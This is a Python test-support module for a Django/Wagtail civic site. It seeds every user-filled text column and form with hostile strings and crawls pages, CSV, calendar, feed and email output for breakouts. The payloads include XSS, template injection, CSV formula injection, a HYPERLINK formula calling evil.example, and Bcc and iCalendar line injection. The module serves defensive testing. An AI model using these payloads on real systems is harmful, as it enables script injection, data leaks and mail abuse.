"""Hostile words in every text that people fill, and what they may never become: markup, script, a formula, another header.

`writing` poisons each text column of our rooms while rows are made, whoever makes them, so nothing depends on what a form
would let through. `Crawl` then reads every page and file that the stops know, and says what broke out.
"""

import csv
import io
import json
import re
from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

from django.apps import apps
from django.db import connection, models, transaction
from django.db.models.signals import pre_save
from django.test import Client
from django.urls import reverse
from wagtail.models import Page

from city.models import Department, Neighborhood
from cms.demo.pages import tell_stories
from cms.starter import build_site
from core.sql import AppendOnly, _guards
from notices.models import Letter
from people.deeds import deliver_all
from people.models import Delivery, Person
from tests.core.payloads import XSS
from tests.support.stops import OFFICE, Stop, event_path, lay, lead_of, stops
from tests.support.visitors import client_of
from tests.tooling.house import rooms

MARK = "zq7"  # in every hostile text; where it stands tells whether somebody broke out
OWN_REFRESH = re.compile(r"\d+(;url=/[a-z0-9/]*)?")  # a page that loads itself anew, or a page of ours by its reference
RENDERED = "zq8888888"  # what a template would make of the template payload; no random token has it by chance
TEMPLATE = '{{ "zq888"|add:"8888" }}{% now "Y" %}'
LONG = "zq7" + "W" * 400
MORE = (
    f"{MARK} {TEMPLATE}",
    f"</script><script>{MARK}(1)</script>",
    f'"]}}</script><script>{MARK}(1)</script>',
    f'" onmouseover="{MARK}(1)" x="',
    f"' onmouseover='{MARK}(1)' x='",
    f"=1+1+{MARK}",
    f"+{MARK}",
    f"-{MARK}",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f'=HYPERLINK("http://evil.example/?{MARK}";"x")',
    f'{MARK}",=1+1,"',
    f"{MARK}\r\nBcc: {MARK}@evil.example",
    f"{MARK}\r\nEND:VEVENT\r\nATTENDEE:mailto:{MARK}@evil.example",
    f"\u202e{MARK}\u2066gnp.exe",
    LONG,
)
PAYLOADS = (
    tuple(text.replace("alert(1)", f"{MARK}(1)").replace("evil.example/x", f"evil.example/{MARK}") for text in XSS)
    + MORE
)
# A few that carry many: what the ordinary suite writes everywhere.
FEW = (
    f"=1+{MARK}\"'></textarea></title></script><svg/onload={MARK}(1)>",
    f"{TEMPLATE}<script>{MARK}(1)</script>\u202e",
    f"{MARK}\r\nBcc: {MARK}@evil.example\r\nEND:VEVENT",
    f'javascript:{MARK}(1) [x](javascript:{MARK}(1)) ",=1+{MARK},"',
)

# Columns that no person fills: keys, codes and counts of the machine. Everything else with text in it is poisoned.
MACHINE = {
    "ref", "nonce", "slug", "language", "zone", "time_zone", "intent", "next_url", "offer_token", "event_key", "kind", "sha256",
    "eligibility_hash", "proof", "fingerprint", "key", "client_key", "batch", "bell", "on", "receiver", "window", "subject_type", "badge", "period",
    "engine_version", "ballots_sha256", "old_state", "new_state", "letter", "color_key", "from_status", "to_status",
    "drawing", "path", "url_path", "draft_title", "image", "rule", "about", "project", "hash", "text_hash", "why",
    "credentials",
}  # fmt: skip
# Where an empty text says that something did not happen: hostile only where something was said.
SAYS_THAT = {
    "void_reason",
    "override_reason",
    "suspended_reason",
    "lifted_note",
    "withdrawn_reason",
    "Question.answer",
    "Ballot.serial",
}
DERIVED = {
    "notices.Letter",
    "notices.Attachment",
    "ideas.Counting",
    "ideas.Result",
    "cms.CustomRendition",
}  # made from the others


def columns() -> list[tuple[type[models.Model], models.Field]]:
    """Every text column that somebody fills, of every room. A new one is in from its first day."""
    tables = [
        Page,
        *(model for room in rooms() if apps.is_installed(room) for model in apps.get_app_config(room).get_models()),
    ]
    return [
        (model, field)
        for model in tables
        if model._meta.label not in DERIVED
        for field in model._meta.local_fields
        if type(field) in (models.CharField, models.TextField) and not field.choices and field.name not in MACHINE
    ]


class Deck:
    """Deals payloads: each column gets the next ones, as many as it has room for, until it has had them all."""

    def __init__(self, payloads: tuple[str, ...] = PAYLOADS) -> None:
        self.payloads = payloads
        self.dealt: dict[str, int] = defaultdict(int)

    def text(self, column: models.Field) -> str:
        most, name = column.max_length or 4000, f"{column.model._meta.label}.{column.name}"
        words = ""
        while True:
            following = self.payloads[self.dealt[name] % len(self.payloads)].replace("\0", "")
            if words and len(words) + len(following) + 1 > min(most, 700):
                return words
            words = f"{words}\n{following}" if words else following[:most]
            self.dealt[name] += 1

    def left(self) -> list[str]:
        """Columns that have not had every payload yet."""
        return [name for name, number in self.dealt.items() if number < len(self.payloads)]


@contextmanager
def writing(deck: Deck) -> Iterator[None]:
    """While it lasts, whatever is saved for the first time has hostile words in it."""
    by_model = defaultdict(list)
    for model, column in columns():
        if model._meta.app_label != "city":  # looked up by its name while things are made; poisoned afterwards
            by_model[model].append(column)

    def poison(sender: Any, instance: Any, raw: bool = False, **_more: Any) -> None:
        if instance._state.adding:
            for column in by_model.get(sender, ()):
                if not column.unique and fits(column, getattr(instance, column.name)):
                    setattr(instance, column.name, deck.text(column))

    pre_save.connect(poison)
    try:
        yield
    finally:
        pre_save.disconnect(poison)


def fits(column: models.Field, text: str) -> bool:
    return bool(text) or not SAYS_THAT & {column.name, f"{column.model.__name__}.{column.name}"}


def poison_what_is_there(deck: Deck) -> None:
    """The same for rows that were written in bulk, changed afterwards, or looked up by their name while things were made."""
    journals = [rule for rule in _guards if isinstance(rule, AppendOnly)]
    for rule in journals:
        take_away(rule)
    for model, column in columns():
        rows = model._base_manager.exclude(depth=1) if model is Page else model._base_manager
        for pk, text in rows.values_list("pk", column.name):
            if MARK not in str(text) and fits(column, text):
                extra = f"{pk} " if column.unique else ""
                dealt = (extra + deck.text(column))[: column.max_length]
                model._base_manager.filter(pk=pk).update(**{column.name: dealt})
    for rule in journals:
        put_back(rule)
    for place in (Neighborhood, Department):
        for row in place.objects.all():  # whoever looks for the names that were makes new ones
            place.objects.filter(pk=row.pk).update(slug=f"place-{row.pk}")


def take_away(rule: AppendOnly) -> None:
    on = f" ON {rule.table}" if connection.vendor == "postgresql" else ""
    with connection.cursor() as cursor:
        for name in rule.names:
            cursor.execute(f"DROP TRIGGER IF EXISTS {name}{on}")


def put_back(rule: AppendOnly) -> None:
    with connection.cursor() as cursor:
        for statement in rule.install(connection.vendor):
            cursor.execute(statement)


def a_hostile_city(deck: Deck) -> None:
    """One of everything, all of it hostile, and every letter written about it. Needs an open transaction."""
    build_site()
    tell_stories()
    with writing(deck):
        lay()
        deliver_all()
    poison_what_is_there(deck)
    Letter.objects.all().delete()
    Delivery.objects.update(done_at=None)
    deliver_all()


# ── what may never come of it ──

RUNS = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "math",
    "animate",
    "set",
    "foreignobject",
    "marquee",
    "isindex",
}
TAKES_AN_ADDRESS = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "data",
    "srcset",
    "srcdoc",
    "background",
    "ping",
    "manifest",
}
HARMLESS = re.compile(r"(?:https?://|mailto:|tel:|/(?!/)|[#?.]|$)", re.IGNORECASE)
WORDS = re.compile(
    r"(?:value|title|alt|content|placeholder|label|aria-[a-z]+|data-[a-z-]+|href|src|srcset|action|hx-[a-z-]+|datetime|id|for|name|aria|download)$"
)
FORMULA = re.compile(r"\s*[=+\-@\t\r]")
NUMBER = re.compile(r"[+\-−]?[\d.,:\s]+$")


class Reader(HTMLParser):
    """What a browser would make of a page, as far as it could do harm. `wrong` says what it would."""

    def __init__(self, html: str, *, strict: bool) -> None:
        super().__init__()
        self.strict = strict  # Wagtail's own pages have scripts and styles of their own between the lines
        self.wrong: list[str] = []
        self.inside: str | None = None
        self.seen = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.inside = tag if tag in ("script", "style") else None
        if MARK in tag or (self.strict and tag in RUNS):
            self.wrong.append(f"<{tag}>")
        if tag == "script":
            self.script = given
            if self.strict and not given.get("src") and "json" not in given.get("type", ""):
                self.wrong.append("a script between the lines")
        refresh = tag == "meta" and "refresh" in given.get("http-equiv", "").lower()
        if refresh and not OWN_REFRESH.fullmatch(given.get("content", "")):
            self.wrong.append("a refresh")
        for name, value in given.items():
            self.attribute(tag, name, value)

    handle_startendtag = handle_starttag

    def attribute(self, tag: str, name: str, value: str) -> None:
        hostile = MARK in value
        self.seen += hostile
        if MARK in name or (name.startswith("on") and (hostile or self.strict)):
            self.wrong.append(f"<{tag} {name}>")
        if hostile and not WORDS.match(name):
            self.wrong.append(f"<{tag} {name}={value[:60]!r}>")
        if name in TAKES_AN_ADDRESS and hostile and not HARMLESS.match(value.strip()):
            self.wrong.append(f"<{tag} {name}={value[:60]!r}>")
        if name in ("src", "srcset", "action", "formaction") and hostile and not value.startswith(("/", "?", "#")):
            self.wrong.append(f"<{tag} {name}={value[:60]!r}>")

    def handle_endtag(self, tag: str) -> None:
        self.inside = None

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.wrong.append(f"a comment: {data[:40]!r}")

    def handle_decl(self, decl: str) -> None:
        if MARK in decl:
            self.wrong.append(f"a declaration: {decl[:40]!r}")

    handle_pi = unknown_decl = handle_comment

    def handle_data(self, data: str) -> None:
        self.seen += data.count(MARK)
        if RENDERED in data:
            self.wrong.append("template words were followed")
        if MARK in data and self.inside == "script":
            try:
                json.loads(data) if "json" in self.script.get("type", "") else self.wrong.append(
                    "words inside a script"
                )
            except ValueError:
                self.wrong.append("words that break a script's data")
        if MARK in data and self.inside == "style":
            self.wrong.append("words inside a style")


def html_faults(html: str, *, strict: bool = True) -> tuple[list[str], int]:
    """What breaks out of a page, and how often hostile words stand in it."""
    found = Reader(html, strict=strict)
    return found.wrong, found.seen


def csv_faults(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if "\nkey;value" in text else ","))
    wide = {len(row) for row in rows if row}
    wrong = [f"rows of {sorted(wide)} cells"] if len(wide) > 1 and ";" not in text.split("\n")[0] else []
    return wrong + [
        f"a formula: {cell[:40]!r}" for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.match(cell)
    ]


CALENDAR = {
    "BEGIN", "END", "PRODID", "VERSION", "UID", "SEQUENCE", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "LOCATION", "URL", "NAME",
    "DESCRIPTION", "STATUS", "TZID", "TZNAME", "TZOFFSETFROM", "TZOFFSETTO", "RDATE", "RRULE", "X-WR-CALNAME", "METHOD",
    "COMMENT", "LAST-MODIFIED", "X-LIC-LOCATION", "CATEGORIES", "REFRESH-INTERVAL", "X-PUBLISHED-TTL", "CALSCALE",
    "CREATED", "TRANSP", "ACTION", "TRIGGER",
}  # fmt: skip


INVITATION = ["ORGANIZER", "ATTENDEE"]  # once each, in letters that invite


def calendar_faults(text: str, *, invites: bool = False) -> list[str]:
    lines = re.sub(r"\r?\n[ \t]", "", text).split("\r\n")
    names = [re.split(r"[;:]", line, maxsplit=1)[0] for line in lines if line]
    for name in INVITATION if invites else ():
        names.remove(name)
    wrong = [f"a line of its own: {name[:40]!r}" for name in names if name not in CALENDAR]
    if names.count("BEGIN") != names.count("END"):
        wrong.append("an entry ends early")
    return wrong


ATOM = {"feed", "title", "link", "id", "author", "name", "updated", "published", "entry", "summary"}


def feed_faults(content: bytes) -> list[str]:
    names = {element.tag.rpartition("}")[2] for element in ElementTree.fromstring(content).iter()}
    return [f"an element of its own: {name}" for name in names - ATOM]


def letter_faults(letter: Letter) -> list[str]:
    wrong = [] if "\n" not in letter.subject and "\r" not in letter.subject else ["a subject of several lines"]
    wrong += html_faults(letter.html, strict=True)[0]
    wrong += ["template words were followed"] if RENDERED in letter.text + letter.subject else []
    for name, kind, text in letter.attachments:
        kind, _semicolon, method = kind.partition(";")
        calendar = calendar_faults(text, invites=bool(method))
        wrong += calendar if kind == "text/calendar" else [f"an attachment of another kind: {name}"]
    return wrong


class Crawl:
    """Reads what the stops know as the people they are for. `wrong` collects sentences."""

    def __init__(self) -> None:
        self.wrong: list[str] = []
        self.read = self.seen = self.posted = 0
        self.clients: dict[int | None, Client] = {}

    def of(self, person: Person | None) -> Client:
        key = person.pk if person else None
        if key not in self.clients:
            self.clients[key] = client_of(person, raise_request_exception=False)
        return self.clients[key]

    def visit(self, person: Person | None, path: str) -> Any:
        answer = self.of(person).get(path)
        return self.judge(path, answer)

    def judge(self, path: str, answer: Any) -> Any:
        """Read one answer by what it says it is."""
        if answer.status_code >= 500:
            self.wrong.append(f"{path}: answered {answer.status_code}")
        kind = answer.headers.get("Content-Type", "").split(";")[0]
        self.wrong += [f"{path}: header {name}" for name, value in answer.headers.items() if RENDERED in value]
        if MARK in answer.headers.get("Location", "") and not answer.headers["Location"].startswith("/"):
            self.wrong.append(f"{path}: leads to {answer.headers['Location'][:60]}")
        if answer.streaming or not kind:
            return answer
        text, found, seen = answer.content.decode(errors="replace"), list[str](), 0
        self.read += 1
        if kind == "text/html":
            office = path.startswith(OFFICE)
            found, seen = html_faults(text, strict=not office)
            policy = answer.headers.get("Content-Security-Policy", "")
            if not office and ("script-src" not in policy or "unsafe" in policy):
                found.append(f"a policy that lets scripts in: {policy[:80]!r}")
        elif kind == "text/csv":
            found, seen = csv_faults(text), text.count(MARK)
        elif kind == "text/calendar":
            found, seen = calendar_faults(text), text.count(MARK)
        elif kind == "application/json":
            json.loads(text)
            seen = text.count(MARK)
        elif kind == "application/atom+xml":
            found = feed_faults(answer.content)
            seen = text.count(MARK)
        if answer.headers.get("X-Content-Type-Options") != "nosniff":
            found.append("may be taken for something else")
        self.seen += seen
        self.wrong += [f"{path}: {one}" for one in found]
        return answer

    def everything(self, *, whole: bool = True) -> None:
        """Each page, each file, each letter; or one page of each kind."""
        way = list(stops()) if whole else one_of_each(list(stops()))
        for stop in way:
            self.visit(stop.person, stop.path if whole else asked_badly(stop.path))
            if whole:
                self.visit(stop.person, asked_badly(stop.path))
        for person, path in files(way):
            self.visit(person, path)
        for letter in Letter.objects.all():
            self.read += 1
            self.seen += (letter.html + letter.text).count(MARK)
            self.wrong += [f"letter {letter.kind}: {one}" for one in letter_faults(letter)]

    def post_back(self, person: Person | None, path: str) -> None:
        """Send the form of a page with hostile words in every field, and read what comes back. Nothing of it stays."""
        page = self.of(person).get(path)
        if page.headers.get("Content-Type", "").split(";")[0] != "text/html":
            return
        for form in Forms(page.content.decode()).found:
            where = form.action or path
            if not where.startswith(("/", "?")) or where.startswith("/account/"):
                continue
            for hostile in FEW:
                with transaction.atomic():
                    answer = self.of(person).post(where if where[0] == "/" else path + where, form.filled(hostile))
                    transaction.set_rollback(True)
                self.posted += 1
                self.judge(where if where[0] == "/" else path, answer)


def one_of_each(way: list[Stop]) -> list[Stop]:
    """One stop for each kind of page."""
    kinds = {stop.name.rstrip("0123456789-"): stop for stop in way if not stop.name.startswith(("letter-", "mfa"))}
    return list(kinds.values())


class Form:
    """One form that is posted: where to, and what it asks."""

    def __init__(self, action: str) -> None:
        self.action, self.given = action, dict[str, str]()
        self.words: dict[str, str] = {}  # what is typed: name → kind of field

    def filled(self, text: str) -> dict[str, str]:
        return {**self.given, **dict.fromkeys(self.words, text)}


class Forms(HTMLParser):
    """The forms of a page that are posted."""

    TYPED = ("text", "email", "search", "tel", "url", "number", "date", "time", "datetime-local")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[Form] = []
        self.open: Form | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.open = Form(given.get("action", "")) if given.get("method", "").lower() == "post" else None
            self.found += [self.open] if self.open else []
        name = given.get("name", "")
        if self.open is None or not name:
            return
        if tag == "textarea" or (tag == "input" and given.get("type", "text") in self.TYPED):
            self.open.words[name] = given.get("type", "text")
        elif tag in ("input", "button"):
            self.open.given.setdefault(name, given.get("value", "on"))
        elif tag == "select":
            self.open.given.setdefault(name, "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.open = None


ASKED = ("q", "next", "kept", "rule", "after", "seed", "order", "when", "where", "kind", "suits", "offer", "choose", "title", "category",
         "email", "to", "show", "language", "then", "p")  # fmt: skip


def asked_badly(path: str) -> str:
    """The same page with a hostile word behind every question mark that any page knows."""
    from urllib.parse import urlencode

    hostile = f"\"><script>{MARK}(1)</script>'{TEMPLATE}"
    away = f"javascript:{MARK}(1)"
    return f"{path}{'&' if '?' in path else '?'}{urlencode([(name, away if name == 'next' else hostile) for name in ASKED if name + '=' not in path])}"


def files(way: list[Stop]) -> Iterator[tuple[Person | None, str]]:
    """What is downloaded instead of read."""
    from city.models import Neighborhood
    from ideas.models import IdeaPoll, Result
    from projects.models import Event, Project

    for event in Event.objects.filter(project__status__in=Project.PUBLIC):
        yield None, event_path("event_calendar", event)
        yield lead_of(event.project), event_path("event_roster", event)
        yield None, reverse("projects:project_calendar", args=[event.project.slug])
    for name in ("projects:project_feed", "projects:event_feed", "ideas:poll_feed", "ideas:answer_feed"):
        yield None, reverse(name)
    for slug in IdeaPoll.objects.public().values_list("slug", flat=True):
        yield None, reverse("ideas:idea_feed", args=[slug])
        yield None, reverse("ideas:idea_points", args=[slug])
    for slug in Neighborhood.objects.values_list("slug", flat=True):
        yield None, reverse("ideas:area_feed", args=[slug])
    for stop in {stop.person.pk: stop for stop in way if stop.person}.values():
        yield stop.person, reverse("people:data_download")
        yield stop.person, reverse("gamification:points_csv")
        yield stop.person, reverse("people:me")
    for result in Result.objects.all():
        for name in ("ballots.csv", "ideas.csv", "rule.json", "outcome.json", "poll.pb", "recount.py"):
            yield None, reverse("ideas:poll_file", args=[result.poll.slug, result.n, name])
